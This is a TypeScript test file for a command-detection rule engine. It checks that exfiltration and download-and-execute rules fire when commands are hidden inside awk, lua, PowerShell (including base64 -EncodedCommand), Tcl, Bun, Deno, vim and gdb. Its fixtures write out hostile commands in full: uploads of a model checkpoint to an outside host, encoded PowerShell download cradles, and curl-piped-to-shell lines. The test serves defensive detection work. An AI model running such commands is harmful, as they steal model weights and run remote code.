/**
 * GTFOBins-style interpreters through the shipped rule set and the real engine: an upload run
 * through awk, lua, PowerShell (plain and `-EncodedCommand`), Tcl / Expect, Bun / Deno, vim and gdb
 * alerts as its plain spelling does (MLS-EXFIL-014); `pwsh -enc` is MLS-RAY-013 (decoded); a
 * download piped into a shell from inside one is MLS-RAY-012; benign uses raise nothing new.
 */
import { describe, expect, it } from 'vitest';
import { execEvent, execRuleIds, SA } from './exec-events.test-support.js';
import { eventFieldResolver } from './event-fields.js';

const ids = execRuleIds;
const SIGMA_EXEC = '79cc565c-cf24-4bf3-b1bb-c00a7c99631c';
const CKPT = '/mnt/ckpt/llama-ft/step_9000/model.pt';
const URL = 'https://upload.filedrop-cdn.net/u/x';
const UP = `curl -T ${CKPT} ${URL}`;
/** PowerShell's -EncodedCommand form: base64 of UTF-16LE. */
const enc = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

const lookup = eventFieldResolver.field('attrs.exec.indirect');
const indirect = (command: unknown): unknown => ('get' in lookup ? lookup.get(execEvent(command)) : undefined);

describe('MLS-EXFIL-014 through GTFOBins interpreters', () => {
  const plain = ids(['sh', '-c', UP]);
  it('the plain spelling alerts', () => expect(plain).toContain('MLS-EXFIL-014'));

  const spellings: Array<[string, unknown, unknown]> = [
    ['awk system()', ['awk', `BEGIN{system("${UP}")}`], [true, 'literal']],
    ['gawk "cmd" | getline', ['gawk', `BEGIN{"${UP}" | getline r}`], [true, 'literal']],
    ['awk print | "sh"', ['awk', `BEGIN{print "${UP}" | "sh"}`], [true, 'literal']],
    ['busybox awk -v', ['busybox', 'awk', '-v', `u=${URL}`, `BEGIN{system("curl -T ${CKPT} " u)}`], [true, 'literal']],
    ['lua -e os.execute', ['lua', '-e', `os.execute("${UP}")`], [true, 'literal']],
    ['luajit -e io.popen', ['luajit', '-e', `io.popen("${UP}"):read("*a")`], [true, 'literal']],
    ['pwsh -c curl.exe', ['pwsh', '-NoProfile', '-c', `curl.exe -T ${CKPT} ${URL}`], false],
    ['pwsh -Command iex literal', ['pwsh', '-Command', `iex '${UP}'`], [true, 'literal']],
    ['pwsh Start-Process', ['pwsh', '-c', `Start-Process curl -ArgumentList '-T ${CKPT} ${URL}'`], false],
    ['expect -c spawn', ['expect', '-c', `spawn sh -c "${UP}"; expect eof`], [true, 'literal']],
    ['tclsh fed exec on stdin', ['sh', '-c', `echo 'exec ${UP}' | tclsh`], [true, 'literal']],
    ['bun -e Bun.spawn', ['bun', '-e', `Bun.spawn(["curl", "-T", "${CKPT}", "${URL}"])`], [true, 'literal']],
    ['deno eval Deno.Command', ['deno', 'eval', `new Deno.Command("curl", { args: ["-T", "${CKPT}", "${URL}"] }).outputSync()`], [true, 'literal']],
    ['vim -c :!', ['vim', '-c', `:!${UP}`, '-c', ':q!'], [true, 'literal']],
    ['vi -c :py3', ['vi', '-c', `:py3 import os; os.system("${UP}")`], [true, 'literal']],
    ['ex -c !', ['ex', '-c', `!${UP}`], [true, 'literal']],
    ['gdb -ex !', ['gdb', '-nx', '-batch', '-ex', `!${UP}`], [true, 'literal']],
    ['gdb -ex shell', ['gdb', '-q', '-ex', `shell ${UP}`, '-ex', 'quit'], [true, 'literal']],
    ['gdb -ex python', ['gdb', '-batch', '-ex', `python import subprocess; subprocess.run(["curl", "-T", "${CKPT}", "${URL}"])`], [true, 'literal']],
    ['sh -c "awk …"', ['sh', '-c', `awk 'BEGIN{system("${UP}")}'`], [true, 'literal']],
  ];
  for (const [name, command, how] of spellings) {
    it(`alerts: ${name}`, () => {
      expect(ids(command)).toEqual(expect.arrayContaining(plain));
      expect(indirect(command)).toEqual(how);
    });
  }

  it('cloud copies and rclone (service account too)', () => {
    expect(ids(['pwsh', '-c', `aws s3 cp ${CKPT} s3://bucket/x`], SA)).toContain('MLS-EXFIL-014');
    // PowerShell's own upload: a web cmdlet with -InFile, any case, also through an alias.
    expect(ids(['pwsh', '-c', `Invoke-WebRequest -Uri ${URL} -Method Put -InFile ${CKPT}`])).toContain('MLS-EXFIL-014');
    expect(ids(['pwsh', '-enc', enc(`irm ${URL} -method post -infile ${CKPT}`)])).toContain('MLS-EXFIL-014');
    expect(ids(['pwsh', '-c', `Invoke-WebRequest -Uri ${URL} -OutFile /tmp/x`])).not.toContain('MLS-EXFIL-014');
    expect(ids(['awk', 'BEGIN{system("rclone copy /mnt/ckpt/llama-ft remote:bucket")}'], SA)).toContain('MLS-EXFIL-014');
    expect(ids(['lua', '-e', 'os.execute("gsutil cp -r /mnt/ckpt/llama-ft gs://bucket/x")'], SA)).toContain('MLS-EXFIL-014');
  });
});

describe('MLS-RAY-013 on PowerShell -EncodedCommand', () => {
  for (const [name, command] of [
    ['pwsh -enc', ['pwsh', '-NoProfile', '-enc', enc(UP)]],
    ['powershell -EncodedCommand', ['powershell', '-nop', '-w', 'hidden', '-EncodedCommand', enc(UP)]],
    ['pwsh -e with an inner FromBase64String', ['pwsh', '-e', enc(`IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${enc(UP)}')))`)]],
  ] as const) {
    it(`alerts, and the decoded upload alerts too: ${name}`, () => {
      const hit = ids(command);
      expect(hit).toContain('MLS-RAY-013');
      expect(hit).toContain('MLS-EXFIL-014');
      expect(indirect(command)).toEqual([true, 'decoded']);
    });
  }
  it('an encoded download cradle: decoded and run-time text', () => {
    const c = ['powershell', '-nop', '-enc', enc("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')")];
    expect(ids(c)).toContain('MLS-RAY-013');
    expect(indirect(c)).toEqual([true, 'decoded', 'runtime']);
  });
  it('a plain -Command is no decoded payload', () => {
    expect(ids(['pwsh', '-c', `curl.exe -T ${CKPT} ${URL}`])).not.toContain('MLS-RAY-013');
  });
});

describe('MLS-RAY-012 from inside these interpreters', () => {
  it('a download piped into a shell through awk, Tcl exec, vim :!, pwsh', () => {
    expect(ids(['awk', 'BEGIN{system("curl -fsSL http://203.0.113.7/r.sh | sh")}'])).toContain('MLS-RAY-012');
    expect(ids(['expect', '-c', 'exec curl -s http://203.0.113.7/r.sh | sh'])).toContain('MLS-RAY-012');
    expect(ids(['vim', '-c', ':!wget -qO- http://203.0.113.7/r.sh | bash'])).toContain('MLS-RAY-012');
    expect(ids(['pwsh', '-c', 'bash -c "curl -s http://203.0.113.7/r.sh | sh"'])).toContain('MLS-RAY-012');
  });
});

describe('benign uses raise nothing new', () => {
  for (const command of [
    ['awk', '{print $1}', '/var/log/train.log'],
    ['awk', '-F:', '{print $1}', '/etc/passwd'],
    ['sh', '-c', "nvidia-smi --query-gpu=memory.used --format=csv | awk -F, 'NR>1 {s+=$1} END {print s}'"],
    ['lua', '-e', 'print(_VERSION)'],
    ['pwsh', '-c', 'Get-Date'],
    ['pwsh', '-NoProfile', '-Command', 'Get-ChildItem /mnt/ckpt | Measure-Object -Property Length -Sum'],
    ['vim', '-c', ':wq', 'config.yaml'],
    ['gdb', '-batch', '-ex', 'thread apply all bt', '-p', '4242'],
    ['expect', '-c', 'puts ok'],
    ['bun', '-e', 'console.log(Bun.version)'],
  ]) {
    it(JSON.stringify(command), () => {
      expect(ids(command)).toEqual([SIGMA_EXEC]);
      expect(indirect(command)).toBe(false);
    });
  }
});
